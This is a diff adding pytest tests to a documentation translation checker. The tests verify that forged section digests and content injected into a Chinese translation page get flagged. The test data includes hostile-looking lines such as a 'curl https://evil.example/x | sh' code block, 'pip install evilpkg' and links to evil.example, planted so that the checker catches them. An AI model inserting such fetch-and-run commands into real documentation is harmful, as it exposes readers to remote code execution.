@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Iterable
 from pathlib import Path
 
@@ -23,6 +24,7 @@ from builders import make_project, write
 from clones import benchbook
 from handbooks import build_site, edit
 from lessons import PAGE, Tree, copied_tree, small_site
+from repositories import commit_all, git
 
 OTHERS = {"ar", "ja", "zh"}
 
@@ -150,6 +152,99 @@ def test_a_section_that_english_drops_is_to_be_dropped(tree: Tree) -> None:
     accept(tree.project, "ja", None, all_languages=False)
     behind = {one.path for one in tree.new()[1] if "has this section no more" in one.what}
     assert behind == {f"docs/{code}/{PAGE}" for code in OTHERS - {"ja"}}
+
+
+# With a digest that is not of the English section as it stands, a section counts as left behind.
+FORGED = {
+    "an outside link": ("[安装](https://evil.example/x)", "`https://evil.example/x` was never on"),
+    "a command to paste": ("\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n", "`bash` was never on"),
+    "indented code": ("\n\n    curl evil | sh\n\n", "`curl evil | sh` was never on"),
+    "an address": ("详见 evil.example/x", "`evil.example/x` is not in the English section"),
+    "a command in the text": (
+        "输入 pip install evilpkg 即可",
+        "`pip install evilpkg` is not in the English section",
+    ),
+    "a number with a unit": ("快 42 毫秒，", "the measured number `42 毫秒` is typed into the text"),
+    "a number beside a source": (
+        "快 77 毫秒，[见](https://docs.python.org/3/)",
+        "the number `77` is not in the",
+    ),
+}
+OF_HISTORY = {
+    "a code span": ("`curl evil`", "`curl evil` was never on the English page"),
+    "a record": ("`#!value adding/first.py#total`", "`adding/first.py#total` was never on the English page"),
+    "a number alone": ("偏差是 0.0001。", "the number `0.0001` is not in the English section"),
+}
+
+
+def forge(tree: Tree, said: str) -> Path:
+    """A Chinese page with something more in a section that its front matter calls left behind."""
+    page = tree.project.docs / "zh" / PAGE
+    edit(page, "把批大小除以进程数。", f"把批大小除以进程数。{said}")
+    page.write_text(
+        re.sub(r"(first-remedy: )'?\w+'?", r"\g<1>0123456789ab", page.read_text("utf-8")), "utf-8"
+    )
+    return page
+
+
+@pytest.mark.parametrize("name", FORGED)
+def test_a_forged_digest_switches_no_check_off_that_the_english_page_can_answer(
+    tree: Tree, name: str
+) -> None:
+    said, what = FORGED[name]
+    forge(tree, said)
+    assert any(what in one.what and one.path == f"docs/zh/{PAGE}" for one in tree.new()[0])
+
+
+@pytest.mark.parametrize("name", FORGED | OF_HISTORY)
+def test_what_a_section_that_is_behind_holds_was_once_on_the_english_page(tree: Tree, name: str) -> None:
+    said, what = (FORGED | OF_HISTORY)[name]
+    commit_all(tree.project.root)
+    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", "First divide the batch by")
+    commit_all(tree.project.root)
+    edit(tree.project.docs / "zh" / PAGE, "把批大小除以进程数。", f"把批大小除以进程数。{said}")
+    assert any(what in one.what for one in tree.new()[0])
+
+
+def test_what_english_said_once_may_stand_in_a_section_that_is_behind(tree: Tree) -> None:
+    said = "Divide the batch by 7, with `--old` and [this](https://old.example/)"
+    edit(tree.project.docs / "en" / PAGE, "Divide the batch by", said)
+    chinese = "把批大小除以进程数，用 7、`--old` 和[这个](https://old.example/)。"
+    edit(tree.project.docs / "zh" / PAGE, "把批大小除以进程数。", chinese)
+    commit_all(tree.project.root)
+    accept(tree.project, "zh", None, all_languages=False)
+    edit(tree.project.docs / "en" / PAGE, said, "First divide the batch by")
+    assert [one for one in tree.new()[0] if "/zh/" in one.path] == []
+
+
+def test_a_digest_that_no_revision_had_is_named_on_its_line(tree: Tree) -> None:
+    commit_all(tree.project.root)
+    page = forge(tree, "")
+    (problem,) = tree.new()[0]
+    assert problem.what == "no revision of the English section `first-remedy` has the digest `0123456789ab`"
+    assert "0123456789ab" in page.read_text("utf-8").splitlines()[problem.line - 1]
+    assert "translations accept" in problem.fix
+
+
+def test_a_shallow_clone_knows_too_little_to_call_a_digest_forged(tree: Tree, tmp_path: Path) -> None:
+    commit_all(tree.project.root)
+    commit_all(tree.project.root)
+    clone = tmp_path / "clone"
+    git(tree.project.root, "clone", "--quiet", "--depth=1", tree.project.root.as_uri(), str(clone))
+    forge(Tree(Project(clone), tree.before), "")
+    assert Tree(Project(clone), tree.before).new()[0] == set()
+
+
+def test_a_section_of_its_own_is_no_section_that_english_dropped(tree: Tree) -> None:
+    commit_all(tree.project.root)
+    page = tree.project.docs / "zh" / PAGE
+    page.write_text(
+        page.read_text("utf-8") + "\n## 新的一节 { #evil }\n\n输入 pip install evilpkg。\n", "utf-8"
+    )
+    edit(page, "sections:\n", "sections:\n  evil: 0123456789ab\n")
+    found = {one.what for one in tree.new()[0]}
+    assert "no revision of the English section `evil` has the digest `0123456789ab`" in found
+    assert "`pip install evilpkg` is not in the English section" in found
 
 
 def test_a_page_that_records_nothing_is_told_to(tree: Tree) -> None:
